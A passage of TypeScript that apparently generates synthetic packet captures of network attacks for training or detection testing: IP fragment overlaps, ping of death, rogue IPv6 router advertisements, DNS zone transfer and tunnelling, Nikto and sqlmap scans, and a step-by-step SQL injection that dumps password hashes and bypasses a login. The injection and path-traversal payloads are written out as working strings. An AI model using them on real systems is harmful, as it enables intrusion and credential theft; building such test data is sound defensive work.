/** The transport part of a datagram as it would leave unfragmented (checksums over the real pseudo-header). */
function datagramPayload(s: CaptureScript, build: (f: FrameBuilder) => void): Uint8Array {
  const f = s.f;
  f.reset();
  build(f);
  const whole = f.finish();
  const ihl = (whole[0] & 0x0f) * 4;
  return whole.slice(ihl);
}

function fragOverlap(): Uint8Array {
  const s = new CaptureScript('ip-frag-overlap', at(14, 10, 0));
  const rng = s.rng;
  // First a normal fragmented datagram for comparison: a 2,400-byte UDP message in two clean pieces.
  const normal = datagramPayload(s, (f) => f.ipv4({ src: ATTACKER, dst: WEB, protocol: IPPROTO_UDP }).udp(40_123, 9).fill(2_392, 0x61));
  fragment(s, 0, IPPROTO_UDP, 0x1f01, 0, true, normal.subarray(0, 1_480));
  fragment(s, 40, IPPROTO_UDP, 0x1f01, 1_480, false, normal.subarray(1_480));
  // Teardrop (CVE-1997-0014): the second fragment starts inside the first and ends before it does, so a
  // naive reassembler computes a negative length.
  for (let i = 0; i < 6; i++) {
    const id = 0x2a00 + i;
    const head = datagramPayload(s, (f) => f.ipv4({ src: ATTACKER, dst: WEB, protocol: IPPROTO_UDP }).udp(rng.int(1_024, 65_000), 9).fill(28, 0));
    fragment(s, 1_000_000, IPPROTO_UDP, id, 0, true, head.subarray(0, 36));
    fragment(s, 30, IPPROTO_UDP, id, 24, false, new Uint8Array(4));
  }
  // Overlaps with conflicting data (Ptacek–Newsham IDS evasion): a second copy of the tail asks for another
  // file; which copy a host keeps depends on its reassembly policy, so a monitor cannot know what it saw.
  for (let i = 0; i < 3; i++) {
    const id = 0x3b00 + i;
    const tcpHeader = { srcPort: 44_000 + i, dstPort: 80, seq: rng.u32(), ack: rng.u32(), flags: PSH | ACK, window: 502 };
    const real = datagramPayload(s, (f) => f.ipv4({ src: ATTACKER, dst: WEB, protocol: IPPROTO_TCP }).tcp(tcpHeader).ascii('GET /index.html HTTP/1.0\r\n\r\n'));
    const decoy = datagramPayload(s, (f) => f.ipv4({ src: ATTACKER, dst: WEB, protocol: IPPROTO_TCP }).tcp(tcpHeader).ascii('GET /etc/passwd HTTP/1.0\r\n\r\n'));
    fragment(s, 800_000, IPPROTO_TCP, id, 0, true, real.subarray(0, 24));
    fragment(s, 30, IPPROTO_TCP, id, 24, true, decoy.subarray(24, 40));
    fragment(s, 30, IPPROTO_TCP, id, 24, false, real.subarray(24));
  }
  return s.bytes();
}

function pingOfDeath(): Uint8Array {
  const s = new CaptureScript('ping-of-death', at(14, 30, 0));
  // A normal ping first.
  echo4(s, 0, ATTACKER_MAC, WEB_MAC, ATTACKER, WEB, false, 0x11aa, 1, pingData(s.clock.now));
  echo4(s, 380, WEB_MAC, ATTACKER_MAC, WEB, ATTACKER, true, 0x11aa, 1, pingData(s.clock.now - 380), 64);
  // Then an echo request whose fragments add up past the 65,535-byte limit of an IPv4 datagram (RFC 791
  // §3.1 total length): the last fragment sits at offset 65,120 and carries 1,480 bytes.
  const icmp = datagramPayload(s, (f) => f.ipv4({ src: ATTACKER, dst: WEB, protocol: IPPROTO_ICMP }).icmp(8, 0, (0x11ab << 16) | 1).fill(66_592, 0x58));
  const id = 0x7e57;
  s.wait(1_000_000);
  for (let off = 0; off < icmp.length; off += 1_480) {
    const end = Math.min(icmp.length, off + 1_480);
    fragment(s, off === 0 ? 0 : 120, IPPROTO_ICMP, id, off, end < icmp.length, icmp.subarray(off, end));
  }
  return s.bytes();
}

// ---------------------------------------------------------------------------------------------------------
// IPv6

function rogueRa(): Uint8Array {
  const s = new CaptureScript('ipv6-rogue-ra', at(15, 0, 0));
  const allNodes = ipv6('ff02::1');
  const allRouters = ipv6('ff02::2');
  const routerLl = ipv6('fe80::1');
  const rogueLl = linkLocalFromMac(ATTACKER_MAC);
  const hostLl = linkLocalFromMac(HOST_MAC);
  const good = { prefix: ipv6('2001:db8:1::'), length: 64, validLifetime: 2_592_000, preferredLifetime: 604_800 };
  const ra = (gap: number, srcMac: Uint8Array, src: Uint8Array, dst: Uint8Array, dstMac: Uint8Array, rogue: boolean) =>
    s.frame(gap, (f) => {
      f.ethernet(dstMac, srcMac, ETHERTYPE_IPV6).ipv6({ src, dst, next: IPPROTO_ICMPV6, hopLimit: 255 });
      routerAdvertisement(
        f,
        rogue
          ? { routerLifetime: 9_000, preference: 1, sourceMac: ATTACKER_MAC, mtu: 1_500, prefixes: [{ prefix: ipv6('2001:db8:bad::'), length: 64, validLifetime: 4_294_967_295, preferredLifetime: 4_294_967_295 }] }
          : { routerLifetime: 1_800, sourceMac: GW_MAC, mtu: 1_500, prefixes: [good] },
      );
    });
  // Normal: the router's periodic advertisement, a host's solicitation and the answer.
  ra(0, GW_MAC, routerLl, allNodes, ipv6MulticastMac(allNodes), false);
  s.frame(4_000_000, (f) => {
    f.ethernet(ipv6MulticastMac(allRouters), HOST_MAC, ETHERTYPE_IPV6).ipv6({ src: hostLl, dst: allRouters, next: IPPROTO_ICMPV6, hopLimit: 255 });
    routerSolicitation(f, HOST_MAC);
  });
  ra(2_300, GW_MAC, routerLl, allNodes, ipv6MulticastMac(allNodes), false);
  // The rogue router: high preference, long lifetime, its own prefix, announced every few seconds
  // (fake_router6 style), so hosts pick it as default router and configure addresses from its prefix.
  s.wait(20_000_000);
  for (let i = 0; i < 12; i++) ra(i === 0 ? 0 : 3_000_000, ATTACKER_MAC, rogueLl, allNodes, ipv6MulticastMac(allNodes), true);
  // The workstation runs duplicate address detection for its new address (RFC 4862 §5.4) …
  const bad = ipv6('2001:db8:bad::3e22:fbff:fe12:3456');
  s.frame(400_000, (f) => {
    f.ethernet(ipv6MulticastMac(solicitedNode(bad)), HOST_MAC, ETHERTYPE_IPV6).ipv6({ src: ipv6('::'), dst: solicitedNode(bad), next: IPPROTO_ICMPV6, hopLimit: 255 });
    neighborSolicitation(f, bad);
  });
  // … and then resolves the rogue as its router.
  s.frame(1_000_000, (f) => {
    f.ethernet(ipv6MulticastMac(solicitedNode(rogueLl)), HOST_MAC, ETHERTYPE_IPV6).ipv6({ src: hostLl, dst: solicitedNode(rogueLl), next: IPPROTO_ICMPV6, hopLimit: 255 });
    neighborSolicitation(f, rogueLl, HOST_MAC);
  });
  s.frame(350, (f) => {
    f.ethernet(HOST_MAC, ATTACKER_MAC, ETHERTYPE_IPV6).ipv6({ src: rogueLl, dst: hostLl, next: IPPROTO_ICMPV6, hopLimit: 255 });
    neighborAdvertisement(f, rogueLl, { router: true, solicited: true, override: true }, ATTACKER_MAC);
  });
  // Its traffic to the internet now goes to the attacker's MAC.
  const web6 = ipv6('2001:db8:4860::80');
  for (let seq = 1; seq <= 2; seq++) {
    s.frame(seq === 1 ? 200 : 1_000_000, (f) => {
      f.ethernet(ATTACKER_MAC, HOST_MAC, ETHERTYPE_IPV6).ipv6({ src: bad, dst: web6, next: IPPROTO_ICMPV6 });
      f.icmpv6(ICMPV6_ECHO_REQUEST, 0, (0x0c01 << 16) | seq).bytes(pingData(s.clock.now));
    });
  }
  return s.bytes();
}

function sixInFour(): Uint8Array {
  const s = new CaptureScript('ipv6-6in4', at(15, 30, 0));
  // A tunnel-broker style 6in4 tunnel (RFC 4213 §3: IPv6 directly in IPv4, protocol 41) from the
  // workstation to a broker, carrying pings and a web request to an IPv6-only server.
  const broker = ipv4('198.51.100.1');
  const mine = ipv6('2001:db8:1f0a:55::2');
  const server = ipv6('2001:db8:4860::80');
  const outer = (f: FrameBuilder, dir: Direction) => {
    if (dir === CLIENT) f.ethernet(GW_MAC, HOST_MAC, ETHERTYPE_IPV4).ipv4({ src: HOST, dst: broker, protocol: IPPROTO_IPV6, ttl: 64, id: s.rng.int(0, 0xffff), dontFragment: true });
    else f.ethernet(HOST_MAC, GW_MAC, ETHERTYPE_IPV4).ipv4({ src: broker, dst: HOST, protocol: IPPROTO_IPV6, ttl: 55, id: s.rng.int(0, 0xffff) });
  };
  for (let seq = 1; seq <= 4; seq++) {
    for (const reply of [false, true]) {
      s.frame(reply ? 41_000 + s.rng.exp(2_000) : seq === 1 ? 0 : 1_000_000, (f) => {
        outer(f, reply ? SERVER : CLIENT);
        f.ipv6({ src: reply ? server : mine, dst: reply ? mine : server, next: IPPROTO_ICMPV6, hopLimit: reply ? 58 : 64 });
        f.icmpv6(reply ? ICMPV6_ECHO_REPLY : ICMPV6_ECHO_REQUEST, 0, ((0x2b7 << 16) | seq) >>> 0).bytes(pingData(s.clock.now));
      });
    }
  }
  const t = tcp(s, { mac: HOST_MAC, ip: mine, port: 45_880 }, { mac: GW_MAC, ip: server, port: 80 }, { rtt: 41_000, serverTtl: 58, linkHeader: outer, clientMss: 1_420, serverMss: 1_420 });
  s.run(t.handshake(), 2_000_000);
  s.run(t.push(CLIENT, latin1(httpRequestHead('GET', '/', [['Host', 'ipv6-only.example.net'], ['User-Agent', 'curl/8.5.0'], ['Accept', '*/*']]))));
  s.run(t.send(SERVER, httpResponse(200, 'OK', [['Server', 'nginx/1.24.0'], ['Content-Type', 'text/plain']], 'You are connected over IPv6: 2001:db8:1f0a:55::2\n')));
  s.run(t.close(CLIENT));
  return s.bytes();
}

function teredo(): Uint8Array {
  const s = new CaptureScript('ipv6-teredo', at(15, 45, 0));
  // Teredo (RFC 4380): IPv6 in UDP through a NAT. The client qualifies with a Teredo server (router
  // solicitation / advertisement on UDP port 3544), then reaches an IPv6 host through a relay.
  const server = ipv4('203.0.113.33');
  const relay = ipv4('198.51.100.77');
  const clientPort = 50_123;
  const natIp = ipv4('198.51.100.200');
  const natPort = 40_000;
  // §4: 2001:0000:<server IPv4>:<flags>:<port ^ 0xffff>:<client IPv4 ^ 0xffffffff>.
  const hex = (n: number) => n.toString(16);
  const teredoAddr = ipv6(
    `2001:0:${hex(server >>> 16)}:${hex(server & 0xffff)}:8000:${hex(natPort ^ 0xffff)}:${hex((natIp ^ 0xffffffff) >>> 16)}:${hex((natIp ^ 0xffffffff) & 0xffff)}`,
  );
  const clientLl = ipv6('fe80::8000:ffff:ffff:fffe');
  const serverLl = ipv6('fe80::8000:f227:bec4:a8ff');
  const nonce = s.rng.bytes(8);
  const out = (f: FrameBuilder, dst: number, dport: number) =>
    f.ethernet(GW_MAC, HOST_MAC, ETHERTYPE_IPV4).ipv4({ src: HOST, dst, protocol: IPPROTO_UDP, ttl: 128, id: s.rng.int(0, 0xffff) }).udp(clientPort, dport);
  const back = (f: FrameBuilder, src: number, sport: number) =>
    f.ethernet(HOST_MAC, GW_MAC, ETHERTYPE_IPV4).ipv4({ src, dst: HOST, protocol: IPPROTO_UDP, ttl: 50, id: s.rng.int(0, 0xffff) }).udp(sport, clientPort);
  // §5.1.1 authentication indicator: 0x0001, id length, auth length, nonce, confirmation.
  const auth = (f: FrameBuilder) => f.u16(0x0001).u8(0).u8(0).bytes(nonce).u8(0);
  // §5.1.1 origin indication: 0x0000, obfuscated mapped port and address.
  const origin = (f: FrameBuilder) => f.u16(0x0000).u16(natPort ^ 0xffff).u32((natIp ^ 0xffffffff) >>> 0);
  s.frame(0, (f) => {
    out(f, server, 3544);
    auth(f);
    f.ipv6({ src: clientLl, dst: ipv6('ff02::2'), next: IPPROTO_ICMPV6, hopLimit: 255 });
    routerSolicitation(f);
  });
  s.frame(48_000, (f) => {
    back(f, server, 3544);
    auth(f);
    origin(f);
    f.ipv6({ src: serverLl, dst: clientLl, next: IPPROTO_ICMPV6, hopLimit: 255 });
    routerAdvertisement(f, { routerLifetime: 0, prefixes: [{ prefix: ipv6(`2001:0:${hex(server >>> 16)}:${hex(server & 0xffff)}::`), length: 64, validLifetime: 4_294_967_295, preferredLifetime: 4_294_967_295 }] });
  });
  // Reaching 2001:db8:4860::80: a bubble (an IPv6 header with no next header, §5.2.6) to open the NAT, then
  // pings through the relay that serves that destination.
  const peer = ipv6('2001:db8:4860::80');
  s.frame(1_200_000, (f) => {
    out(f, server, 3544);
    f.ipv6({ src: teredoAddr, dst: peer, next: IPPROTO_NONE, hopLimit: 21 });
  });
  for (let seq = 1; seq <= 4; seq++) {
    s.frame(seq === 1 ? 60_000 : 1_000_000, (f) => {
      out(f, relay, 3544);
      f.ipv6({ src: teredoAddr, dst: peer, next: IPPROTO_ICMPV6, hopLimit: 128 }).icmpv6(ICMPV6_ECHO_REQUEST, 0, (1 << 16) | seq).fill(32, 0x61);
    });
    s.frame(52_000 + s.rng.exp(3_000), (f) => {
      back(f, relay, 3544);
      f.ipv6({ src: peer, dst: teredoAddr, next: IPPROTO_ICMPV6, hopLimit: 57 }).icmpv6(ICMPV6_ECHO_REPLY, 0, (1 << 16) | seq).fill(32, 0x61);
    });
  }
  return s.bytes();
}

// ---------------------------------------------------------------------------------------------------------
// DNS

const CORP_SOA: DnsSoa = { mname: 'ns1.corp.example', rname: 'hostmaster.corp.example', serial: 2024031102, refresh: 3600, retry: 600, expire: 1_209_600, minimum: 3600 };

function zoneTransfer(): Uint8Array {
  const s = new CaptureScript('dns-zone-transfer', at(16, 12, 0));
  const client = { mac: ATTACKER_MAC, ip: ATTACKER, port: 51_003 };
  const ns = { mac: NS_MAC, ip: NS, port: 53 };
  // Reconnaissance: who is authoritative (ordinary queries) …
  dns4(s, 0, client, ns, { id: 0x6b20, flags: DNS_FLAGS_QUERY, questions: [{ name: 'corp.example', type: DNS_NS }] });
  dns4(s, 700, ns, client, {
    id: 0x6b20,
    flags: DNS_FLAGS_AUTHORITATIVE | 0x0100,
    questions: [{ name: 'corp.example', type: DNS_NS }],
    answers: [
      { name: 'corp.example', type: DNS_NS, ttl: 3600, data: 'ns1.corp.example' },
      { name: 'corp.example', type: DNS_NS, ttl: 3600, data: 'ns2.corp.example' },
    ],
    additionals: [{ name: 'ns1.corp.example', type: DNS_A, ttl: 3600, data: NS }],
  });
  // … then the whole zone in one AXFR over TCP (RFC 5936): the SOA, every record, the SOA again.
  const hosts: [string, string][] = [
    ['www', '192.168.1.80'],
    ['mail', '192.168.1.25'],
    ['ftp', '192.168.1.21'],
    ['ns1', '192.168.1.53'],
    ['ns2', '192.168.2.53'],
    ['vpn', '198.51.100.30'],
    ['dc01', '192.168.2.10'],
    ['dc02', '192.168.2.11'],
    ['files', '192.168.2.20'],
    ['backup', '192.168.2.21'],
    ['git', '192.168.3.15'],
    ['jenkins', '192.168.3.16'],
    ['dev-db', '192.168.3.30'],
    ['hr-portal', '192.168.4.40'],
    ['payroll', '192.168.4.41'],
    ['printer-3f', '192.168.5.93'],
    ['wifi-guest', '192.168.9.1'],
    ['camera-lobby', '192.168.6.201'],
  ];
  const zone: DnsRecord[] = [
    { name: 'corp.example', type: DNS_SOA, ttl: 3600, data: CORP_SOA },
    { name: 'corp.example', type: DNS_NS, ttl: 3600, data: 'ns1.corp.example' },
    { name: 'corp.example', type: DNS_NS, ttl: 3600, data: 'ns2.corp.example' },
    { name: 'corp.example', type: DNS_MX, ttl: 3600, data: { preference: 10, exchange: 'mail.corp.example' } },
    { name: 'corp.example', type: DNS_TXT, ttl: 3600, data: ['v=spf1 mx ip4:198.51.100.0/28 -all'] },
    ...hosts.map(([h, a]): DnsRecord => ({ name: `${h}.corp.example`, type: DNS_A, ttl: 3600, data: ipv4(a) })),
    { name: 'intranet.corp.example', type: DNS_CNAME, ttl: 3600, data: 'www.corp.example' },
    { name: '_ldap._tcp.corp.example', type: DNS_SRV, ttl: 600, data: { priority: 0, weight: 100, port: 389, target: 'dc01.corp.example' } },
    { name: '_kerberos._tcp.corp.example', type: DNS_SRV, ttl: 600, data: { priority: 0, weight: 100, port: 88, target: 'dc01.corp.example' } },
    { name: 'corp.example', type: DNS_SOA, ttl: 3600, data: CORP_SOA },
  ];
  const t = tcp(s, { mac: ATTACKER_MAC, ip: ATTACKER, port: 41_337 }, { mac: NS_MAC, ip: NS, port: 53 }, { rtt: 600, serverTtl: 64, capturedAt: 'wire' });
  s.run(t.handshake(), 1_500_000);
  const w = new ByteWriter();
  w.len16();
  writeDnsMessage(w, { id: 0x9f3e, flags: 0x0000, questions: [{ name: 'corp.example', type: DNS_AXFR }] });
  w.close();
  s.run(t.push(CLIENT, w.copy()));
  w.reset().len16();
  writeDnsMessage(w, { id: 0x9f3e, flags: DNS_FLAGS_AUTHORITATIVE, questions: [{ name: 'corp.example', type: DNS_AXFR }], answers: zone });
  w.close();
  s.run(t.send(SERVER, w.copy()));
  s.run(t.close(CLIENT));
  // The secondary server is configured properly and refuses.
  const ns2 = { mac: GW_MAC, ip: ipv4('192.168.2.53') };
  const t2 = tcp(s, { mac: ATTACKER_MAC, ip: ATTACKER, port: 41_339 }, { mac: ns2.mac, ip: ns2.ip, port: 53 }, { rtt: 900, serverTtl: 63, capturedAt: 'wire' });
  s.run(t2.handshake(), 2_000_000);
  w.reset().len16();
  writeDnsMessage(w, { id: 0x9f3f, flags: 0x0000, questions: [{ name: 'corp.example', type: DNS_AXFR }] });
  w.close();
  s.run(t2.push(CLIENT, w.copy()));
  w.reset().len16();
  writeDnsMessage(w, { id: 0x9f3f, flags: DNS_FLAGS_AUTHORITATIVE | DNS_RCODE_REFUSED, questions: [{ name: 'corp.example', type: DNS_AXFR }] });
  w.close();
  s.run(t2.push(SERVER, w.copy()));
  s.run(t2.close(SERVER));
  return s.bytes();
}

function dnsTunnel(): Uint8Array {
  const s = new CaptureScript('dns-tunnel', at(16, 40, 0));
  const rng = s.rng;
  const resolver = { mac: GW_MAC, ip: GW, port: 53 };
  const base32 = 'abcdefghijklmnopqrstuvwxyz234567';
  const b64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  const domain = 'tun.cloud-sync.example.net';
  let port = 49_152 + rng.int(0, 5_000);
  // Ordinary lookups for contrast: short names, A/AAAA, answered once.
  const normal = (name: string, ip: number) => {
    const q = { mac: HOST_MAC, ip: HOST, port: ++port };
    const id = rng.int(0, 0xffff);
    dns4(s, 300_000, q, resolver, { id, flags: DNS_FLAGS_QUERY, questions: [{ name, type: DNS_A }] });
    dns4(s, 9_000, resolver, q, { id, flags: DNS_FLAGS_RESPONSE, questions: [{ name, type: DNS_A }], answers: [{ name, type: DNS_A, ttl: 300, data: ip }] });
  };
  normal('www.harbor-travel.example', ipv4('198.51.100.80'));
  normal('updates.example.com', ipv4('203.0.113.10'));
  // The tunnel (iodine/dnscat2 style): data encoded into long, random-looking labels under one domain,
  // answers carrying data back in TXT and CNAME records, one query after another with no caching.
  let seq = rng.int(0, 0xffff);
  for (let i = 0; i < 110; i++) {
    const label1 = rng.text(rng.int(44, 59), base32);
    const label2 = rng.text(rng.int(20, 50), base32);
    const name = `${(seq++ & 0xffff).toString(16).padStart(4, '0')}${label1}.${label2}.${domain}`;
    const type = rng.chance(0.7) ? DNS_TXT : rng.chance(0.5) ? DNS_CNAME : DNS_MX;
    const q = { mac: HOST_MAC, ip: HOST, port: ++port };
    const id = rng.int(0, 0xffff);
    dns4(s, 120_000 + rng.exp(150_000), q, resolver, { id, flags: DNS_FLAGS_QUERY, questions: [{ name, type }], ednsUdpSize: 4096 });
    const answer: DnsRecord =
      type === DNS_TXT
        ? { name, type, ttl: 0, data: [rng.text(rng.int(60, 220), b64)] }
        : type === DNS_CNAME
          ? { name, type, ttl: 0, data: `${rng.text(rng.int(40, 60), base32)}.${domain}` }
          : { name, type, ttl: 0, data: { preference: 10, exchange: `${rng.text(rng.int(40, 60), base32)}.${domain}` } };
    dns4(s, 38_000 + rng.exp(8_000), resolver, q, { id, flags: DNS_FLAGS_RESPONSE, questions: [{ name, type }], answers: [answer], ednsUdpSize: 1232 });
    if (i === 60) normal('outlook.office.example.com', ipv4('203.0.113.50'));
  }
  return s.bytes();
}

// ---------------------------------------------------------------------------------------------------------
// HTTP attacks

function webRequest(path: string, ua: string, extra: HeaderList = []): Uint8Array {
  return latin1(httpRequestHead('GET', path, [['Host', 'shop.corp.example'], ['User-Agent', ua], ['Accept', '*/*'], ['Connection', 'keep-alive'], ...extra]));
}

const SHOP_SERVER: HeaderList = [
  ['Server', 'Apache/2.4.58 (Ubuntu)'],
  ['X-Powered-By', 'PHP/8.1.2'],
];

function sqlInjection(): Uint8Array {
  const s = new CaptureScript('http-sqli', at(17, 5, 0));
  // Someone probes a PHP shop's product page by hand: a quote, a tautology, column counting, then a UNION
  // that pulls user names and password hashes into the page.
  const t = tcp(s, { mac: ATTACKER_MAC, ip: ATTACKER, port: 43_100 }, { mac: WEB_MAC, ip: WEB, port: 80 }, { rtt: 500, serverTtl: 64, capturedAt: 'wire' });
  s.run(t.handshake());
  const product = (id: string) => `<html><body><h1>Product ${id}</h1><p>Trail running shoe, size 42. Price: 89.00 EUR</p></body></html>\n`;
  const steps: [string, number, string][] = [
    ['1', 200, product('1')],
    ["1'", 500, "<b>Fatal error</b>: Uncaught mysqli_sql_exception: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1''' at line 1 in /var/www/html/product.php:14\n"],
    ["1' OR '1'='1", 200, product('1') + product('2') + product('3')],
    ['1 ORDER BY 4-- -', 200, product('1')],
    ['1 ORDER BY 5-- -', 500, "<b>Fatal error</b>: Uncaught mysqli_sql_exception: Unknown column '5' in 'order clause' in /var/www/html/product.php:14\n"],
    ['-1 UNION SELECT 1,2,3,4-- -', 200, product('2')],
    ['-1 UNION SELECT 1,@@version,database(),user()-- -', 200, product('8.0.36-0ubuntu0.22.04.1 shop shop@localhost')],
    ["-1 UNION SELECT 1,table_name,3,4 FROM information_schema.tables WHERE table_schema=database()-- -", 200, product('users') + product('orders') + product('products')],
    ['-1 UNION SELECT 1,concat(username,0x3a,password),3,4 FROM users-- -', 200, product('admin:$2y$10$Qz3kH1bVYtN0wq8cV1m1euR6s0oQy1Y5nZ3W7qkLQfQ2l9rXo1c2K') + product('jsmith:$2y$10$7uN5vB2cX9aQ1wE3rT6yUeOa8sD4fG7hJ1kL3zX5cV7bN9mQ2wE4R')],
  ];
  for (const [id, status, body] of steps) {
    s.run(t.push(CLIENT, webRequest(`/product.php?id=${percentEncode(id)}`, FIREFOX, [['Referer', 'http://shop.corp.example/']])), 2_500_000 + s.rng.exp(3_000_000));
    s.run(t.send(SERVER, httpResponse(status, status === 200 ? 'OK' : 'Internal Server Error', [...SHOP_SERVER, ['Content-Type', 'text/html; charset=UTF-8'], ['Keep-Alive', 'timeout=30, max=100'], ['Connection', 'Keep-Alive']], body)));
  }
  // And the login form, bypassed with a comment.
  s.run(t.push(CLIENT, webRequest(`/login.php?username=${percentEncode("admin'-- -")}&password=x`, FIREFOX)), 4_000_000);
  s.run(t.send(SERVER, httpResponse(302, 'Found', [...SHOP_SERVER, ['Location', '/admin/'], ['Set-Cookie', 'PHPSESSID=q3v1m8f0c2a6e9d4b7k5j1h0g2; path=/']], '')));
  s.run(t.close(CLIENT), 3_000_000);
  return s.bytes();
}

function scannerUserAgents(): Uint8Array {
  const s = new CaptureScript('http-scanner-ua', at(17, 30, 0));
  const rng = s.rng;
  // Nikto: well-known paths, one test id per request in the User-Agent, nearly all answered 404.
  const niktoPaths = [
    '/', '/robots.txt', '/admin/', '/phpmyadmin/', '/.git/HEAD', '/.env', '/backup.zip', '/config.php.bak', '/server-status',
    '/cgi-bin/test-cgi', '/cgi-bin/printenv', '/wp-login.php', '/manager/html', '/login.php', '/icons/README', '/.svn/entries',
    '/index.php?page=../../../../etc/passwd', '/shell.php', '/test.php', '/info.php',
  ];
  let test = 1;
  let sport = 52_800;
  for (let c = 0; c < niktoPaths.length; c += 5) {
    const t = tcp(s, { mac: ATTACKER_MAC, ip: ATTACKER, port: sport++ }, { mac: WEB_MAC, ip: WEB, port: 80 }, { rtt: 400, serverTtl: 64, capturedAt: 'wire' });
    s.run(t.handshake(), 20_000);
    for (const path of niktoPaths.slice(c, c + 5)) {
      const ua = `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:${String(test++ * 7 + 100).padStart(6, '0')})`;
      s.run(t.push(CLIENT, webRequest(path, ua)), 3_000);
      const found = path === '/' || path === '/robots.txt' || path === '/login.php' || path === '/icons/README';
      const status = found ? 200 : path === '/server-status' || path === '/.git/HEAD' ? 403 : 404;
      const body = status === 200 ? '<html><body>ok</body></html>\n' : status === 403 ? '<html><body><h1>Forbidden</h1></body></html>\n' : '<html><body><h1>Not Found</h1></body></html>\n';
      s.run(t.push(SERVER, httpResponse(status, status === 200 ? 'OK' : status === 403 ? 'Forbidden' : 'Not Found', [...SHOP_SERVER, ['Content-Type', 'text/html']], body)));
    }
    ack(s, t, CLIENT);
    s.run(t.close(CLIENT));
  }
  // sqlmap: the same parameter with boolean- and time-based payloads, announcing itself in the User-Agent.
  const ua = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
  const payloads = ['1', '1 AND 4716=4716', '1 AND 4716=4717', "1' AND 2213=2213 AND 'aZPl'='aZPl", '1 AND (SELECT 5122 FROM (SELECT(SLEEP(5)))xBtq)', '1 UNION ALL SELECT NULL,NULL,NULL,NULL-- -'];
  const t = tcp(s, { mac: ATTACKER_MAC, ip: ATTACKER, port: sport++ }, { mac: WEB_MAC, ip: WEB, port: 80 }, { rtt: 400, serverTtl: 64, capturedAt: 'wire' });
  s.run(t.handshake(), 2_000_000);
  for (const p of payloads) {
    s.run(t.push(CLIENT, webRequest(`/product.php?id=${percentEncode(p)}`, ua, [['Accept-Encoding', 'gzip,deflate'], ['Cache-Control', 'no-cache']])), 50_000 + rng.exp(100_000));
    const slow = p.includes('SLEEP');
    s.run(t.push(SERVER, httpResponse(200, 'OK', [...SHOP_SERVER, ['Content-Type', 'text/html; charset=UTF-8']], '<html><body><h1>Product</h1></body></html>\n')), slow ? 5_000_000 : 0);
  }
  ack(s, t, CLIENT);
  s.run(t.close(CLIENT));
  return s.bytes();
}

// ---------------------------------------------------------------------------------------------------------
// Credentials and enumeration

function cleartextCredentials(): Uint8Array {
  const s = new CaptureScript('cleartext-credentials', at(8, 55, 0));
  // FTP (RFC 959 §4.1.1): USER and PASS travel as plain text.
  const ftp = tcp(s, { mac: HOST_MAC, ip: HOST, port: 48_822 }, { mac: FTP_MAC, ip: FTP, port: 21 }, { rtt: 450, serverTtl: 64 });
  s.run(ftp.handshake());
  s.run(ftp.push(SERVER, latin1('220 (vsFTPd 3.0.5)\r\n')));
  turn(s, ftp, 'USER alice\r\n', '331 Please specify the password.\r\n');
  turn(s, ftp, 'PASS Summer2024!\r\n', '230 Login successful.\r\n');
  turn(s, ftp, 'SYST\r\n', '215 UNIX Type: L8\r\n');
  turn(s, ftp, 'PWD\r\n', '257 "/home/alice" is the current directory\r\n');
  turn(s, ftp, 'QUIT\r\n', '221 Goodbye.\r\n');
  s.run(ftp.close(SERVER));
  // HTTP Basic authentication (RFC 7617): the password is only base64-encoded.
  const router = ipv4('192.168.1.1');
  const http = tcp(s, { mac: HOST_MAC, ip: HOST, port: 48_830 }, { mac: GW_MAC, ip: router, port: 80 }, { rtt: 700, serverTtl: 64 });
  s.run(http.handshake(), 3_000_000);
  const headers: HeaderList = [
    ['Host', '192.168.1.1'],
    ['User-Agent', FIREFOX],
    ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
    ['Connection', 'keep-alive'],
  ];
  s.run(http.push(CLIENT, latin1(httpRequestHead('GET', '/admin/', headers))));
  s.run(http.send(SERVER, httpResponse(401, 'Unauthorized', [['Server', 'lighttpd/1.4.69'], ['WWW-Authenticate', 'Basic realm="Router administration"'], ['Content-Type', 'text/html']], '<html><body><h1>401 Unauthorized</h1></body></html>\n')));
  s.run(http.push(CLIENT, latin1(httpRequestHead('GET', '/admin/', [...headers, ['Authorization', basicAuthorization('admin', 'password123')]]))), 4_200_000);
  s.run(http.send(SERVER, httpResponse(200, 'OK', [['Server', 'lighttpd/1.4.69'], ['Content-Type', 'text/html']], '<html><body><h1>Router administration</h1><p>Firmware 2.1.7</p></body></html>\n')));
  s.run(http.close(CLIENT), 5_000_000);
  // An HTML login form posted over plain HTTP.
  const app = ipv4('198.51.100.20');
  const form = tcp(s, { mac: HOST_MAC, ip: HOST, port: 48_841 }, { mac: GW_MAC, ip: app, port: 80 }, { rtt: 12_000, serverTtl: 58 });
  s.run(form.handshake(), 2_000_000);
  const body = 'username=alice&password=Summer2024%21';
  s.run(form.push(CLIENT, latin1(httpRequestHead('POST', '/login', [['Host', 'wiki.corp.example'], ['User-Agent', FIREFOX], ['Content-Type', 'application/x-www-form-urlencoded'], ['Content-Length', String(body.length)], ['Connection', 'keep-alive']]) + body)));
  s.run(form.push(SERVER, httpResponse(302, 'Found', [['Server', 'nginx/1.24.0'], ['Location', '/start'], ['Set-Cookie', 'wiki_session=4b227777d4dd1fc61c6f884f48641d02; HttpOnly']], '')));
  s.run(form.close(CLIENT), 1_000);
  return s.bytes();
}

function smtpUserEnum(): Uint8Array {
  const s = new CaptureScript('smtp-user-enum', at(18, 1, 0));
  // smtp-user-enum against Postfix: VRFY answers 252 for users that exist and 550 for the rest; EXPN is
  // refused; RCPT TO gives the same answer after a MAIL FROM.
  const names = ['root', 'admin', 'alice', 'test', 'bob', 'oracle', 'postmaster', 'guest', 'jsmith', 'backup', 'www-data', 'info', 'sales', 'mysql', 'ftp'];
  const exists = new Set(['root', 'alice', 'bob', 'postmaster', 'jsmith', 'www-data', 'ftp']);
  let port = 39_400;
  const connect = () => {
    const t = tcp(s, { mac: ATTACKER_MAC, ip: ATTACKER, port: port++ }, { mac: MAIL_MAC, ip: MAIL, port: 25 }, { rtt: 500, serverTtl: 64, capturedAt: 'wire' });
    s.run(t.handshake(), 400_000);
    s.run(t.push(SERVER, latin1('220 mail.corp.example ESMTP Postfix (Ubuntu)\r\n')));
